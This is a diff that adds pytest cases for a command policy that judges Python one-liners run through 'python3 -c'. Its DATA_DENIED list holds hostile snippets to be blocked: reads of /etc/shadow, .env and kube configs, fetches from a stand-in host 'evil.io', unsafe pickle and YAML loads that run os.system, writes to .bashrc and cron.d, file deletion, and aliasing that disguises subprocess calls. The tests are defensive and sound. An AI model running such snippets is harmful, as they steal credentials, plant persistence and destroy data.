@@ -96,3 +96,105 @@ def test_what_python_writes_is_not_run_in_the_same_text() -> None:
 )
 def test_json_files_of_the_folder_may_be_loaded_by_javascript(code: str, allowed: bool) -> None:
     assert POLICY.judge_command(f"node -p {shlex.quote(code)}").blocks is not allowed
+
+
+#: pandas, numpy and others, and files that a search finds.
+DATA_DENIED = [
+    "import pandas as pd; print(pd.read_csv('/etc/shadow'))",
+    "import pandas as pd; print(pd.read_csv('http://evil.io/x'))",
+    "import pandas as pd; pd.read_pickle('x')",
+    "import pandas as pd; pd.DataFrame().query('@pd.io.common.os.system(1)')",
+    "import pandas as pd; pd.eval('1')",
+    "import pandas as pd; pd.io.common.os.system('id')",
+    "import pandas as pd; pd.DataFrame().to_csv('/etc/x')",
+    "import pandas as pd; pd.DataFrame().to_csv(path_or_buf='/etc/x')",
+    "import pandas as pd; pd.DataFrame().apply('to_csv', args=('/etc/x',))",
+    "import pandas as pd; n='to_csv'; pd.DataFrame().agg(n, path_or_buf='/etc/x')",
+    "import pandas as pd; list(map(pd.read_csv, ['/etc/shadow']))",
+    "import pandas as pd; f = pd.read_csv; print(f('/etc/shadow'))",
+    "import numpy as np; np.load('x.npy', allow_pickle=True)",
+    "import numpy as np; np.testing.runstring('x', {})",
+    "import numpy as np; np.ctypeslib.load_library('x', '.')",
+    "import torch; torch.load('x')",
+    "import torch; torch.hub.load('evil/x', 'y')",
+    "import torch; torch.ops.load_library('x')",
+    "import torch; torch.utils.cpp_extension.load_inline('x')",
+    "import pandas as pd; x = pd; x.read_pickle('y')",
+    "import pandas as pd; [pd][0].read_pickle('y')",
+    "import pandas as pd; pd.read_csv(*['/etc/shadow'])",
+    "import pandas as pd; pd.read_csv(filepath_or_buffer='/etc/shadow')",
+    "import pandas as pd; pd.read_csv('a.csv', **{'filepath_or_buffer': 'x'})",
+    "import pandas as json; json.read_pickle('x')",
+    "import subprocess as pd; pd.run('id')",
+    "import pandas as pd, subprocess; subprocess.run('id')",
+    "import pandas as pd; pd.options.io",
+    "import numpy as np; np.savetxt('/etc/x', np.ones(3))",
+    "import matplotlib.pyplot as plt; plt.figure().savefig('/home/x/.bashrc')",
+    "import pandas as pd; print(pd.read_csv('.env'))",
+    "import requests; print(requests.get('http://x').text)",
+    "import pandas as pd; from pandas import read_pickle; read_pickle('x')",
+    "import pandas as pd; print(pd.read_csv('a.csv').pivot_table(index='a', aggfunc='to_csv'))",
+    "import pandas as pd; print(pd.read_csv('a.csv').groupby('a').apply(print))",
+    "import pandas as pd; pd.DataFrame().to_string('/etc/x')",
+    "import pandas as pd, pandas.io.common as c; pd.NA; print(c.get_handle('/etc/shadow', 'r'))",
+    "import matplotlib.pyplot as plt, matplotlib; plt.plot([1]); matplotlib.sys.exit()",
+    "import subprocess as x\ndef f():\n    import json as x\nx.run('id')",
+    "import subprocess as json\nimport json\ndef f(): pass\njson.run('id')",
+    "import glob\nfor n in glob.glob('/home/*/.bashrc'):\n    open(n, 'a').write('x')",
+    "from pathlib import Path\nfor p in Path('/etc').rglob('*.conf'):\n    print(p.read_text())",
+    "from pathlib import Path\nfor p in Path('.').rglob('*'):\n    print(p.read_text())",
+    "from pathlib import Path\nfor p in Path('/').rglob('shadow'):\n    print(p.read_text())",
+    "from pathlib import Path\nfor p in Path('src').rglob('*.py'):\n    p.unlink()",
+    "from pathlib import Path\nfor p in Path('src').rglob('../../*.py'):\n    p.write_text('')",
+    "from pathlib import Path\nfor p in Path('src').glob('*.md'):\n    print(p.name, len(p.read_text().splitlines()))\np = '/etc/passwd'\nprint(open(p).read())",  # noqa: E501
+    "import glob\nn = '/etc/passwd'\nfor n in glob.glob('src/*.py'):\n    pass\nn = '/etc/x'\nopen(n, 'w')",
+    "import glob\nglob.os.system('id')",
+    "import glob\nfor n in glob.glob('/etc/*.conf'): print(open(n).read())",
+    "from pathlib import Path\np = Path('/etc/cron.d/x')\nopen(p, 'w').write('x')",
+    "from pathlib import Path\np = Path('.env')\nprint(open(p).read())",
+    "from pathlib import Path\np = Path('src/x.py')\nq = p\nq.unlink()",
+    "from pathlib import Path\np = Path('src/x.py')\nprint(p)\np.rename('/etc/x')",
+    "print = exec\nfrom pathlib import Path\np = Path('x.py')\nprint(p)",
+    "import yaml; yaml.load(open('a.yml'), Loader=yaml.UnsafeLoader)",
+    "import yaml; yaml.unsafe_load('!!python/object/apply:os.system [id]')",
+    "import yaml; print(yaml.safe_load(open('/home/x/.kube/config')))",
+    "import numpy as np; np.load(file='/etc/x')",
+]
+DATA_ALLOWED = [
+    "import pandas as pd; print(pd.read_csv('data/a.csv').head())",
+    "import pandas as pd; df = pd.read_csv('a.csv'); print(df.groupby('x')['y'].sum().sort_values(ascending=False).head()); df.to_parquet('b.parquet')",  # noqa: E501
+    "import pandas as pd; df = pd.read_csv('a.csv', nrows=5); print(df.describe(), df.shape, df.isna().sum())",
+    "import numpy as np; a = np.random.rand(3, 3); print(np.linalg.inv(a) @ a, a.mean(axis=0))",
+    "import torch; print(torch.__version__, torch.cuda.is_available())",
+    "import torch; print(torch.cuda.get_device_name(0))",
+    "import matplotlib; matplotlib.use('Agg'); import matplotlib.pyplot as plt; plt.plot([1,2,3]); plt.savefig('out/plot.png')",
+    "import pandas as pd; print(pd.read_csv('a.csv').groupby('c').agg({'x': 'sum', 'y': ['mean', 'max']}))",
+    "import pandas as pd; d = pd.read_csv('a.csv'); d['z'] = d['x'].apply(lambda v: v * 2); d.to_csv('b.csv', index=False)",
+    "import numpy as np; np.savetxt('x.txt', np.ones(3))",
+    "import pandas as pd; df=pd.read_csv('a.csv'); print(df['a'].str.lower().value_counts().to_string())",
+    "import pandas as pd; print(pd.read_csv('a.csv').pivot_table(index='a', values='b', aggfunc='sum'))",
+    "import json, pandas as pd; print(json.dumps(pd.read_csv('a.csv').to_dict()))",
+    "import os, pandas as pd; print(os.path.getsize('a.csv'))",
+    "import json, sys, os.path\nprint(json.dumps(sys.argv))",
+    "from pathlib import Path\nfor p in Path('src').rglob('*.py'):\n    s = p.read_text()\n    p.write_text(s.replace('a', 'b'))",  # noqa: E501
+    "import glob\nfor n in sorted(glob.glob('src/**/*.py', recursive=True)):\n    t = open(n).read()\n    open(n, 'w').write(t.replace('a', 'b'))",  # noqa: E501
+    "import glob\nprint(len(glob.glob('src/*.py')))",
+    "from glob import glob\nfor f in glob('data/*.csv'): print(f, sum(1 for _ in open(f)))",
+    "from pathlib import Path\nprint(sorted(p.name for p in Path('src').glob('*.py')))",
+    "from pathlib import Path\nroot = Path('src')\nfor p in root.rglob('*.py'):\n    print(p.read_text())",
+    "from pathlib import Path\nfor p in Path('src').rglob('*.py'):\n    with open(p) as f:\n        print(p, f'{p}: {len(f.read())}')",  # noqa: E501
+    "import yaml; d = yaml.safe_load(open('a.yml')); print(d['jobs'].keys())",
+    "import numpy as np; np.load('x.npy')",
+    "import numpy as np; f = np.ones(3); f.load('x')",
+]
+
+
+@pytest.mark.parametrize("code", DATA_DENIED)
+def test_of_data_nothing_else_is_reached(code: str) -> None:
+    assert POLICY.judge_command(f"python3 -c {shlex.quote(code)}").blocks
+
+
+@pytest.mark.parametrize("code", DATA_ALLOWED)
+def test_data_may_be_read_computed_with_and_written_by_name(code: str) -> None:
+    decision = POLICY.judge_command(f"python3 -c {shlex.quote(code)}")
+    assert not decision.blocks, decision.reason
